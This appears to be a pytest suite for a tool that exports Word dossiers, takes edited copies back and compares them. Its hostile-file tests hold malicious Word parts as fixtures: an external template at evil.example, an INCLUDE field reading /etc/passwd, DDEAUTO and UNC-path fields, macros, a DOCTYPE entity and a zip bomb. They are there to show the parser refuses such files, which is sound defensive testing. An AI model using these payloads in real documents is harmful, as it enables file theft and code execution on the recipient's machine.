"""Word files that go out and come back: nothing lost, nothing hostile, the last wins."""

from __future__ import annotations

import io
import subprocess
import zipfile
from collections.abc import Callable
from datetime import date
from functools import cache
from pathlib import Path

import pytest
from docx import Document as WordFile

from changqing.cli.main import main
from changqing.documents.document import Document, DocumentEdition
from changqing.documents.letterhead import LETTERHEAD, find_letterhead, set_letterhead
from changqing.documents.render import render_documents
from changqing.documents.render_docx import render_docx
from changqing.documents.word_compare import compare_word
from changqing.documents.word_read import read_word_blocks
from changqing.documents.word_taken import give_up_word, list_steps, take_word
from changqing.errors import DocumentError
from changqing.run import Outcome
from tests.documents.dossier_case import (
    AS_OF,
    EXAMPLES,
    assessed,
    copied,
    moved,
    text_of,
    written,
)
from tests.needs import find_program

_WITH_ALL = ("company_profile", "undertaking", "content_schedule", "service_assurance")
"""A drawing, tables, numbers, lists and lines to sign on."""


@cache
def _outcome() -> Outcome:
    return assessed(EXAMPLES / "newly-registered")


@cache
def _clean() -> dict[str, Document]:
    return written(_outcome(), edition=DocumentEdition.CLEAN)


@cache
def _word(name: str) -> bytes:
    case = _outcome().case
    return render_docx(
        _clean()[name],
        case_name=case.name,
        digest=case.digest,
        as_of=AS_OF,
        contents=True,
    )


def _edit(content: bytes, change: Callable[[object], None]) -> bytes:
    file = WordFile(io.BytesIO(content))
    change(file)
    made = io.BytesIO()
    file.save(made)
    return made.getvalue()


def _repack(content: bytes, **parts: str) -> bytes:
    """The same file with parts put in, by name; `/` is written `__`."""
    made = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        named = {name.replace("__", "/"): text for name, text in parts.items()}
        for name in old.namelist():
            if name not in named:
                new.writestr(name, old.read(name))
        for name, text in named.items():
            new.writestr(name, text)
    return made.getvalue()


@pytest.mark.parametrize("name", _WITH_ALL)
def test_what_was_not_edited_comes_back_as_it_went(name: str) -> None:
    compared = compare_word(_clean()[name], read_word_blocks(_word(name)))
    assert compared.changes == ()
    assert compared.facts == ()


@pytest.fixture(scope="module")
def round_trips(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of all files as LibreOffice saves them: it is started once."""
    folder = tmp_path_factory.mktemp("round-trips")
    given = [folder / f"{name}.docx" for name in _WITH_ALL]
    for file in given:
        file.write_bytes(_word(file.stem))
    out = folder / "out"
    subprocess.run(
        [
            *(find_program("office"), "--headless", "--convert-to", "docx"),
            *("--outdir", str(out), f"-env:UserInstallation=file://{folder}/home"),
            *map(str, given),
        ],
        check=True,
        capture_output=True,
        timeout=240,
    )
    return out


@pytest.mark.office
@pytest.mark.long
@pytest.mark.parametrize("name", _WITH_ALL)
def test_a_round_trip_through_libreoffice_loses_nothing(
    name: str, round_trips: Path
) -> None:
    back = (round_trips / f"{name}.docx").read_bytes()
    assert compare_word(_clean()[name], read_word_blocks(back)).changes == ()
    pictures = [p for block in read_word_blocks(back) for p in block.pictures]
    assert pictures == [
        p for block in read_word_blocks(_word(name)) for p in block.pictures
    ]


def _lower_the_cash(file) -> None:  # type: ignore[no-untyped-def]
    for table in file.tables:
        for row in table.rows:
            for cell in row.cells:
                if "88万元" in cell.text:
                    cell.text = cell.text.replace("88万元", "8万元")
    file.add_paragraph("公司另设〔待补：应急电话〕值守。")


def test_what_is_edited_is_told_and_handed_in_as_it_is(tmp_path: Path) -> None:
    case = copied("newly-registered", tmp_path)
    outcome = moved(_outcome(), case)
    edited = _edit(_word("service_assurance"), _lower_the_cash)
    draft = _clean()["service_assurance"]

    compared = compare_word(draft, read_word_blocks(edited))

    assert compared.changes[0].place == "靠什么做下去"
    assert compared.changes[-1].after == "公司另设〔待补：应急电话〕值守。"
    assert "88万元" in {fact.said for fact in compared.facts}

    day = date(2026, 11, 24)
    take_word(case, draft.id, edited, on=day, by="我", draft="")
    clean = written(outcome, edition=DocumentEdition.CLEAN)[draft.id]
    assert clean.origin == "word"
    assert clean.word == edited
    assert "8万元" in text_of(clean)
    assert clean.blanks[-1].supply == "应急电话"
    (made,) = render_documents(
        [clean], case_name="甲", digest=outcome.case.digest, as_of=AS_OF
    )
    assert made.docx == edited
    assert made.pdf.startswith(b"%PDF")
    annotated = written(outcome)[draft.id]
    assert "^E-" in text_of(annotated)
    assert annotated.statements

    give_up_word(case, draft.id, on=day, by="我")
    ours = written(outcome, edition=DocumentEdition.CLEAN)[draft.id]
    assert text_of(ours) == text_of(draft)
    assert [step.digest is None for step in list_steps(case)] == [False, True]
    assert list((case / "dossier" / "word").glob("*.docx"))


_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/{kind}" Target="{target}" {more}/>'
    "</Relationships>"
)
_PART = (
    '<w:{root} xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:p><w:r>{inside}</w:r></w:p></w:{root}>"
)
_FIELD = _PART.format(
    root="document",
    inside="<w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "
    "/etc/passwd</w:instrText>",
)


def _write_field(*code: str) -> str:
    """A field; what is itself a field is its code."""
    inside = "".join(
        part if part.startswith("<") else f"<w:instrText>{part}</w:instrText>"
        for part in code
    )
    kinds = {at: f'<w:fldChar w:fldCharType="{at}"/>' for at in ("begin", "end")}
    return kinds["begin"] + inside + kinds["end"]


@pytest.mark.share
@pytest.mark.parametrize(
    ("parts", "told"),
    [
        ({"word__vbaProject.bin": "x"}, "宏"),
        ({"word__embeddings__a.bin": "x"}, "嵌有"),
        (
            {
                "word___rels__settings.xml.rels": _RELS.format(
                    kind="attachedTemplate",
                    target="http://evil.example/a.dotm",
                    more='TargetMode="External"',
                )
            },
            "外面",
        ),
        ({"word__document.xml": _FIELD}, "外面"),
        (
            {"word__settings.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"},
            "文档类型",
        ),
        (
            {
                "word__header7.xml": _PART.format(
                    root="hdr",
                    inside=_write_field(_write_field("QUOTE 68 68 69"), " c:\\a"),
                )
            },
            "外面",
        ),
        (
            {
                "parts__FOOT.XML": _PART.format(
                    root="ftr", inside=_write_field("RD \\\\evil.example\\a.docx")
                )
            },
            "外面",
        ),
        (
            {
                "word__settings.xml": _PART.format(
                    root="settings", inside="<w:mailMerge/>"
                )
            },
            "外面",
        ),
        (
            {
                "word___rels__header1.xml.RELS": _RELS.format(
                    kind="control", target="a.bin", more=""
                )
            },
            "宏",
        ),
        ({"word__document.xml": "<w:broken"}, "不是能读的"),
        ({"Word__styles.xml": _FIELD.replace("INCLUDE", "")}, "不是能读的"),
        ({"word__media__a.png": "0" * (210 << 20)}, "太大"),
    ],
    ids=[
        *("macro", "object", "template", "field", "doctype", "nested field"),
        *("a part elsewhere", "mail merge", "control"),
        *("torn", "a part twice", "bomb"),
    ],
)
def test_a_hostile_word_file_is_refused_in_words(
    parts: dict[str, str], told: str
) -> None:
    with pytest.raises(DocumentError) as refused:
        read_word_blocks(_repack(_word("undertaking"), **parts))
    (issue,) = refused.value.issues
    assert told in issue.text.zh
    assert issue.hint is not None


@pytest.mark.parametrize("by_type", ["Override", "Default"])
def test_a_part_of_word_that_is_not_named_as_one_is_refused(by_type: str) -> None:
    whole = _word("undertaking")
    with zipfile.ZipFile(io.BytesIO(whole)) as packed:
        types = packed.read("[Content_Types].xml").decode()
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    named = {"Override": 'PartName="/word/h.bin"', "Default": 'Extension="bin"'}
    more = f'<{by_type} {named[by_type]} ContentType="{kind}"/></Types>'
    part = _PART.format(root="hdr", inside=_write_field("DDEAUTO c:\\a"))
    parts = {
        "[Content_Types].xml": types.replace("</Types>", more),
        "word__h.bin": part,
    }
    with pytest.raises(DocumentError):
        read_word_blocks(_repack(whole, **parts))


@pytest.mark.parametrize(
    "code",
    [
        ("DDEAUTO c:\\a",),
        (' quote "', "<w:t>x</w:t>", '" ', _write_field("LINK a b")),
        (_write_field('QUOTE "DDE c:\\a"'),),
        ("DD", '<w:fldSimple w:instr=" QUOTE E "/>', " c:\\a"),
        ("INCLUDE", "<w:t>TEXT</w:t>", " c:\\a"),
        ("IF 1 = 1 ", _write_field("DATE"), _write_field("INCLUDEPICTURE c:\\a")),
    ],
)
def test_a_field_that_fetches_is_refused_however_it_is_nested(
    code: tuple[str, ...],
) -> None:
    part = _PART.format(root="hdr", inside=_write_field("PAGE") + _write_field(*code))
    with pytest.raises(DocumentError, match="outside"):
        read_word_blocks(_repack(_word("undertaking"), **{"word__h.xml": part}))


def test_fields_of_every_day_are_no_reason_to_refuse() -> None:
    inside = (
        _write_field(" PAGE ")
        + _write_field(" IF ", _write_field("NUMPAGES"), ' = 1 "" "页" ')
        + _write_field("=", _write_field("PAGE"), "+1")
        + '<w:fldChar w:fldCharType="begin"/><w:instrText>TOC</w:instrText>'
        '<w:fldChar w:fldCharType="separate"/>'
        + _write_field("PAGEREF s1")
        + '<w:fldChar w:fldCharType="end"/>'
    )
    part = _PART.format(root="hdr", inside=inside)

    assert read_word_blocks(
        _repack(_word("undertaking"), **{"word__header7.xml": part})
    )


@pytest.mark.parametrize(
    "content", [b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0" + b"0" * 99]
)
def test_what_is_no_word_file_is_refused(content: bytes) -> None:
    with pytest.raises(DocumentError):
        read_word_blocks(content)


def test_a_letterhead_is_on_every_word_file(tmp_path: Path) -> None:
    def put_head(file) -> None:  # type: ignore[no-untyped-def]
        file.sections[0].header.paragraphs[0].text = "初棠信息·信笺"

    template = _edit(_word("undertaking"), put_head)
    set_letterhead(tmp_path, LETTERHEAD, template)
    found = find_letterhead(tmp_path)
    assert found == template
    (made,) = render_documents(
        [_clean()["undertaking"]],
        case_name="甲",
        digest="0" * 64,
        as_of=AS_OF,
        letterhead=found,
    )
    file = WordFile(io.BytesIO(made.docx))
    assert "初棠信息·信笺" in file.sections[0].header.paragraphs[0].text
    assert (
        compare_word(_clean()["undertaking"], read_word_blocks(made.docx)).changes == ()
    )
    with pytest.raises(DocumentError):
        set_letterhead(
            tmp_path, LETTERHEAD, _repack(template, **{"word__vbaProject.bin": "x"})
        )
    assert find_letterhead(tmp_path) == template
    set_letterhead(tmp_path, LETTERHEAD, None)
    assert find_letterhead(tmp_path) is None


def test_the_command_takes_a_file_by_its_name_and_goes_back(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    case = copied("newly-registered", tmp_path)
    draft = _clean()["service_assurance"]
    file = tmp_path / f"{draft.file_stem}(1).docx"
    file.write_bytes(_edit(_word(draft.id), _lower_the_cash))

    def run(*arguments: str) -> str:
        with pytest.raises(SystemExit) as left:
            main(["dossier", str(case), "take", *arguments, "--lang", "zh"])
        assert not left.value.code
        return capsys.readouterr().out

    told = run(str(file))
    assert "收下了《长期服务和质量保障措施》" in told
    assert "应急电话" in told
    assert "已改回系统草稿" in run("--back", draft.id)
